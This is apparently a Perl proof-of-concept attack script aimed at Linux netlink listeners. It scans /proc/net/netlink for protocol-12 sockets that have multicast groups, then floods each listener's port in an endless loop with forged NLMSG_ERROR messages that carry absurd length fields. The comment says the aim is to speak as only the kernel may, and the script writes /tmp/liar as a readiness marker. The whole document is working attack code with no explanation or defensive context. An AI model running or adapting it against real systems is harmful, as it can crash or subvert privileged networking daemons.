# Tells all who listen to netlink's news in the host, for ever, what only the kernel may: an error, of
# absurd length.
use strict;
use warnings;
my @lies = map { pack('L S S L L l L S S L L', 52, 2, 0x200, 0, 0, -1, $_, 0, 0, 0, 0) . "\0" x 16 }
	(0x80000010, 0xfffffff0, 0x7fff0000, 16);
for (my $round = 0;; $round++) {
	open(my $sockets, '<', '/proc/net/netlink') or die;
	for (<$sockets>) {
		my (undef, $protocol, $port, $groups) = split;
		next unless $protocol eq '12' && hex($groups);
		socket(my $socket, 16, 3, $protocol) or next;
		send($socket, $_, 0x40, pack('S S L L', 16, 0, $port, 0)) for @lies;
	}
	open(my $ready, '>', '/tmp/liar') or die;
	select(undef, undef, undef, 0.002);
}
